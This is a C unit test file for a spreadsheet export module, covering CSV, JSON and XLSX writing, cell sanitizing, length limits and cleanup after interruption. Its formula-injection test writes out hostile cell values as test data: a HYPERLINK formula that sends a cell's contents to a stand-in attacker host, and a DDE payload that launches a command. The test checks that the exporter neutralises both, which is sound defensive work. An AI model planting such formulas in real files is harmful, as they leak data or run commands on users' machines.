/* SPDX-License-Identifier: MIT */
/* The sheet gate and the files of rows. What a spreadsheet makes of a workbook is
 * looked at by tests/flow/export.sh, which reads one back with another program. */
#include "exchange/rows.h"

#include <dirent.h>
#include <fcntl.h>
#include <locale.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/stop.h"
#include "base/text.h"

static const struct sheet_csv plain_csv = {',', '.'};

static void gate_gives(const char *text, const char *wanted)
{
	struct buf out = BUF_INIT;
	sheet_gate(&out, text, strlen(text));
	assert_string_equal(buf_str(&out), wanted);
	assert_true(text_valid(buf_str(&out), out.len));
	assert_int_equal(sheet_clean(text, strlen(text)) && strcmp(text, wanted) != 0, 0);
	buf_release(&out);
}

/* hostile.jsonl X03 */
static void escapes_stay_text(void **state)
{
	(void)state;
	gate_gives("_x0041_ and _x000D_", "_x005F_x0041_ and _x005F_x000D_");
	gate_gives("_x0041_x0042_", "_x005F_x0041_x005F_x0042_");
	gate_gives("_x004_ _xzzzz_ x0041_", "_x004_ _xzzzz_ x0041_");
	gate_gives("plain", "plain");
	gate_gives("=1+1", "=1+1");
}

static void only_what_xml_knows(void **state)
{
	(void)state;
	gate_gives("a\033b\001c", "a\xef\xbf\xbd" "b\xef\xbf\xbd" "c");
	gate_gives("a\xff" "b\xc0\x80", "a\xef\xbf\xbd" "b\xef\xbf\xbd\xef\xbf\xbd");
	gate_gives("\xef\xbf\xbf" "x\xed\xa0\x80", "\xef\xbf\xbd" "x\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
	gate_gives("one\r\ntwo\rthree\nfour\tfive", "one\ntwo\nthree\nfour\tfive");
	gate_gives("주식회사 한빛 株式会社 شركة บริษัท", "주식회사 한빛 株式会社 شركة บริษัท");
}

static size_t utf16_units(const char *s, size_t len)
{
	size_t units = 0;
	for (size_t i = 0; i < len;) {
		uint32_t cp;
		i += text_next(s + i, len - i, &cp);
		units += cp > 0xffff ? 2 : 1;
	}
	return units;
}

/* hostile.jsonl X06, and characters that count twice */
static void a_cell_holds_so_much(void **state)
{
	(void)state;
	static const char *const texts[] = {"a", "\xf0\x9f\x98\x80", "_x0041_", "한"};
	for (size_t t = 0; t < 4; t++) {
		struct buf text = BUF_INIT, out = BUF_INIT;
		for (int i = 0; i < 40000; i++)
			buf_adds(&text, texts[t]);
		sheet_gate(&out, text.data, text.len);
		assert_true(utf16_units(out.data, out.len) <= SHEET_CELL_UNITS);
		assert_true(text_count(out.data, out.len) <= SHEET_CELL_UNITS);
		assert_true(text_valid(out.data, out.len));
		assert_non_null(strstr(out.data, "[cut here"));
		buf_release(&text);
		buf_release(&out);
	}
	struct buf text = BUF_INIT, out = BUF_INIT;
	buf_pad(&text, 'a', SHEET_CELL_UNITS);
	sheet_gate(&out, text.data, text.len);
	assert_int_equal(out.len, SHEET_CELL_UNITS);
	buf_release(&text);
	buf_release(&out);
}

static void csv_gives(const char *text, const char *wanted)
{
	struct buf out = BUF_INIT;
	sheet_csv_text(&out, text, &plain_csv);
	assert_string_equal(buf_str(&out), wanted);
	buf_release(&out);
}

/* item 80; hostile.jsonl X01, X02 */
static void csv_formulas_are_text(void **state)
{
	(void)state;
	csv_gives("=1+1", "\"'=1+1\"");
	csv_gives("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
	          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
	csv_gives("\t=cmd|' /C calc'!A0", "\"'\t=cmd|' /C calc'!A0\"");
	csv_gives("  @SUM(1)", "\"'  @SUM(1)\"");
	csv_gives("\xc2\xa0+1", "\"'\xc2\xa0+1\"");
	csv_gives("\xef\xbc\x9d" "1", "\"'\xef\xbc\x9d" "1\"");
	csv_gives("-5", "\"'-5\"");
	csv_gives("\rx", "\"'\rx\"");
	csv_gives("a=b", "a=b");
	csv_gives("say \"hi\", twice\n", "\"say \"\"hi\"\", twice\n\"");
	csv_gives("00123", "00123");
	csv_gives("", "");
}

static const struct sheet_column columns[] = {
	{"client", "Client", SHEET_TEXT}, {"amount", "Amount", SHEET_MONEY}, {"due", "Due", SHEET_DAY},
	{"days", "Days", SHEET_INT},      {"at", "At", SHEET_TIME},
};
enum { COLUMNS = 5 };

static void fill(struct sheet_row *row, const char *client, int64_t minor, const char *currency)
{
	sheet_clear(row);
	sheet_text(row, client);
	sheet_money(row, minor, currency);
	sheet_day(row, 20780);
	sheet_int(row, -3);
	sheet_time(row, (struct moment){1795439100, 60});
}

static void csv_follows_its_locale(void **state)
{
	(void)state;
	struct sheet_row row;
	struct buf out = BUF_INIT;
	fill(&row, "Bergmann; \"GmbH\"", -1234567, "EUR");
	sheet_csv_row(&out, &row, &plain_csv);
	assert_string_equal(buf_str(&out),
	                    "\"Bergmann; \"\"GmbH\"\"\",-12345.67,2026-11-23,-3,2026-11-23T14:05:00+01:00\r\n");
	buf_clear(&out);
	sheet_csv_row(&out, &row, &(struct sheet_csv){';', ','});
	assert_string_equal(buf_str(&out),
	                    "\"Bergmann; \"\"GmbH\"\"\";-12345,67;2026-11-23;-3;2026-11-23T14:05:00+01:00\r\n");
	buf_release(&out);
}

static void json_keeps_kinds(void **state)
{
	(void)state;
	struct sheet_row row;
	struct buf out = BUF_INIT;
	struct json json;
	json_start(&json, &out);
	fill(&row, "A\"", 11000000, "KRW");
	row.cells[2].filled = false;
	sheet_json_row(&json, &row, columns);
	assert_string_equal(buf_str(&out), "{\"client\":\"A\\\"\",\"amount\":\"11000000\",\"due\":null,\"days\":-3,"
	                                   "\"at\":\"2026-11-23T14:05:00+01:00\"}");
	buf_release(&out);
}

/* --- files --- */

static char folder[] = "/tmp/dun-sheet-XXXXXX";

static int enter(void **state)
{
	(void)state;
	return mkdtemp(folder) ? chdir(folder) : -1;
}

static int files_here(bool remove)
{
	int count = 0;
	DIR *dir = opendir(".");
	for (struct dirent *d; dir && (d = readdir(dir));)
		if (strcmp(d->d_name, ".") != 0 && strcmp(d->d_name, "..") != 0) {
			count++;
			if (remove)
				unlink(d->d_name);
		}
	closedir(dir);
	return count;
}

static int leave(void **state)
{
	(void)state;
	files_here(true);
	return chdir("/") == 0 ? rmdir(folder) : -1;
}

static struct rows *begin(const char *path, enum rows_format format, int64_t rows_most, int *sheet)
{
	struct err err = {0};
	struct rows_spec spec = {
		.format = format, .taken = FILE_REFUSE, .decimal = '.',
		.about = {.title = "t", .company = "Firm", .day = 20780, .rows_most = rows_most},
	};
	struct rows *rows = rows_open(path, &spec, &err);
	assert_non_null(rows);
	assert_true(rows_sheet(rows, "List", columns, COLUMNS, sheet, &err));
	return rows;
}

static void write_list(const char *path, enum rows_format format, int count, int64_t rows_most)
{
	int sheet;
	struct err err = {0};
	struct sheet_row row;
	struct rows_result result;
	struct rows *rows = begin(path, format, rows_most, &sheet);
	for (int i = 0; i < count; i++) {
		fill(&row, "=1+1", 53593 + i, "USD");
		if (!rows_add(rows, sheet, &row, &err))
			fail_msg("row %d: %s", i, err.text);
	}
	assert_true(rows_close(rows, &result, &err));
	assert_int_equal(result.rows, count);
	assert_string_equal(result.path, path);
	assert_true(result.bytes > 0);
}

static void read_file(const char *path, struct buf *out)
{
	struct err err = {0};
	assert_true(file_read(path, NULL, 1 << 24, out, &err));
}

static void text_files_are_whole(void **state)
{
	(void)state;
	struct buf out = BUF_INIT;
	write_list("a.csv", ROWS_CSV, 1, 0);
	read_file("a.csv", &out);
	assert_string_equal(buf_str(&out), "client,amount,due,days,at\r\n"
	                                   "\"'=1+1\",535.93,2026-11-23,-3,2026-11-23T14:05:00+01:00\r\n");
	buf_clear(&out);
	write_list("b.json", ROWS_JSON, 2, 0);
	read_file("b.json", &out);
	assert_string_equal(buf_str(&out),
	                    "[\n{\"client\":\"=1+1\",\"amount\":\"535.93\",\"due\":\"2026-11-23\",\"days\":-3,"
	                    "\"at\":\"2026-11-23T14:05:00+01:00\"},\n"
	                    "{\"client\":\"=1+1\",\"amount\":\"535.94\",\"due\":\"2026-11-23\",\"days\":-3,"
	                    "\"at\":\"2026-11-23T14:05:00+01:00\"}\n]\n");
	buf_clear(&out);
	write_list("c.json", ROWS_JSON, 0, 0);
	read_file("c.json", &out);
	assert_string_equal(buf_str(&out), "[\n]\n");
	buf_clear(&out);
	write_list("d.csv", ROWS_CSV_EXCEL, 0, 0);
	read_file("d.csv", &out);
	assert_string_equal(buf_str(&out), "\xef\xbb\xbf" "client,amount,due,days,at\r\n");
	buf_release(&out);
}

static void same_rows_same_bytes(void **state)
{
	(void)state;
	struct buf a = BUF_INIT, b = BUF_INIT;
	write_list("1.xlsx", ROWS_XLSX, 100, 0);
	write_list("2.xlsx", ROWS_XLSX, 100, 0);
	read_file("1.xlsx", &a);
	read_file("2.xlsx", &b);
	assert_true(a.len > 0 && a.len == b.len);
	assert_memory_equal(a.data, b.data, a.len);
	assert_memory_equal(a.data, "PK", 2);
	buf_release(&a);
	buf_release(&b);
}

static void a_full_sheet_goes_on(void **state)
{
	(void)state;
	/* the names of the sheets stand uncompressed nowhere; the size tells of three */
	write_list("3.xlsx", ROWS_XLSX, 25, 11);
	struct err err = {0};
	int sheet;
	struct sheet_row row;
	struct buf place = BUF_INIT;
	struct rows *rows = begin("4.xlsx", ROWS_XLSX, 11, &sheet);
	for (int i = 0; i < 25; i++) {
		fill(&row, "x", i, "USD");
		assert_true(rows_add(rows, sheet, &row, &err));
	}
	rows_place(rows, sheet, 1, &place);
	assert_string_equal(buf_str(&place), "'List 3'!B8");
	buf_release(&place);
	rows_drop(rows);
}

/* item 79: stopped at half, nothing new is in the folder */
static void stopping_leaves_nothing(void **state)
{
	(void)state;
	files_here(true);
	for (int format = 0; format < 4; format++) {
		int sheet;
		struct err err = {0};
		struct sheet_row row;
		struct rows *rows = begin("stopped", (enum rows_format)format, 0, &sheet);
		stop_catch();
		bool going = true;
		for (int i = 0; going && i < 2000; i++) {
			fill(&row, "x", i, "USD");
			if (i == 1000)
				raise(SIGINT);
			going = rows_add(rows, sheet, &row, &err);
		}
		assert_false(going);
		assert_int_equal(err.code, ERR_STOPPED);
		rows_drop(rows);
		stop_release();
		assert_int_equal(files_here(false), 0);
	}
}

static void several_sheets_are_no_csv(void **state)
{
	(void)state;
	struct err err = {0};
	struct rows_spec spec = {.format = ROWS_CSV, .several = true, .about = {"t", "f", 20780, 0}};
	assert_null(rows_open("several.csv", &spec, &err));
	assert_int_equal(err.code, ERR_USAGE);
	enum rows_format format;
	assert_true(rows_format_of("/a.b/c.XLSX", &format) && format == ROWS_XLSX);
	assert_true(rows_format_of("c.csv", &format) && format == ROWS_CSV);
	assert_false(rows_format_of("a.csv/c", &format));
	assert_false(rows_format_of("c.csv-excel.zip", &format));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(escapes_stay_text),
		cmocka_unit_test(only_what_xml_knows),
		cmocka_unit_test(a_cell_holds_so_much),
		cmocka_unit_test(csv_formulas_are_text),
		cmocka_unit_test(csv_follows_its_locale),
		cmocka_unit_test(json_keeps_kinds),
		cmocka_unit_test(text_files_are_whole),
		cmocka_unit_test(same_rows_same_bytes),
		cmocka_unit_test(a_full_sheet_goes_on),
		cmocka_unit_test(stopping_leaves_nothing),
		cmocka_unit_test(several_sheets_are_no_csv),
	};
	setlocale(LC_CTYPE, "C.UTF-8");
	return cmocka_run_group_tests(tests, enter, leave);
}
